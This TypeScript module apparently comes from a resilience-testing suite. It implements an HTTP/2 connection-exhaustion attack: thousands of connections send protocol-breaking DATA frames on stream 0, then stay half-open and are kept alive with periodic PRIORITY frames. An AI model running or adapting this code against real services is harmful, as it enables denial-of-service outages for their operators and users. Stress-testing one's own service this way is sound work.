/** HTTP/2 connections that break the protocol and are then left half-open, as many as the service has slots. */
import { keepConnected } from "../wire/crowd.js";
import { encodeStart } from "../wire/http2-connection.js";
import { encodeFrame, encodeHeaders, encodeRequestBlock, PRIORITY_FRAME, TYPE } from "../wire/http2-frames.js";
import type { Attack } from "./attack.js";

/** OFFLEDGER_MAX_CONNECTIONS by default. */
const CONNECTIONS = 10_000;
const PROBE_MS = 1_000;

/** DATA belongs to no stream. */
const brokenFrame = encodeFrame(TYPE.data, 0, 0, Buffer.from("broken"));

const atOnce = Buffer.concat([encodeStart(0), brokenFrame]);
/** Breaks in the middle of a small response, for which it leaves no window. */
const request = encodeHeaders(1, encodeRequestBlock("GET", "/livez"), true);
const whileResponding = Buffer.concat([encodeStart(0), request, brokenFrame]);

export const brokenConnections: Attack = (target, tally, signal) =>
  keepConnected(target, tally, signal, {
    count: CONNECTIONS,
    allowHalfOpen: true,
    use(socket, index) {
      if (index % 2 === 0) socket.write(atOnce);
      else {
        tally.requests++;
        socket.write(whileResponding);
      }
      // Its own end stays open after the end of the other.
      socket.once("end", () => {
        tally.answer("end");
        // If the service has closed the socket, the first write causes a reset and the next one fails: another
        // connection follows.
        const timer = setInterval(() => socket.write(PRIORITY_FRAME), PROBE_MS);
        socket.once("close", () => clearInterval(timer));
      });
      socket.resume();
    },
  });
